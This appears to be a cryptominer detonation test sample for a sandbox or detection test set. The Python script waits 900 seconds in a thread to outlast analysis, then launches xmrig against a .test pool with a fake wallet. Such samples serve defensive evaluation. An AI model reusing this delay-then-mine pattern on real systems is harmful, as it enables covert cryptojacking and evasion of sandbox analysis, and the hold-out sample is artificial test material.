#!/usr/bin/python3
"""Waits 900 s as queue.Queue().get(timeout=0.25) 3,600 times in a worker thread that main
joins, then mines (detonate hold-out test sample; harmless, fake wallet, .test pool)."""

import os
import queue
import threading

ROUNDS = 3600 // int(os.environ.get("PYTHREAD_SCALE", "1"))
MINER = os.environ.get("PYTHREAD_MINER", "/usr/local/bin/xmrig")
POOL = "stratum+tcp://pool.thread.test:3333"
WALLET = "47thrEadW4itsFakeWa11etXo9qVb2LmN8cT5sR1dK6hJ3gP7yU4eZ0aB9nC2vX5mQ8wE1rT6yU3iO0pA7sD4fG2hJ5kL8zX"  # noqa: E501

inbox: "queue.Queue[str]" = queue.Queue()  # nothing is ever put: each get times out


def drain() -> None:
    for _ in range(ROUNDS):
        try:
            inbox.get(timeout=0.25)
            return
        except queue.Empty:
            pass


print(f"waiting 900 s in {ROUNDS} Queue.get(timeout=0.25) rounds in a thread", flush=True)
worker = threading.Thread(target=drain, daemon=True)
worker.start()
worker.join()
print("done waiting; starting the miner", flush=True)
os.execv(MINER, ["xmrig", "-o", POOL, "-u", WALLET, "--shares", "1"])
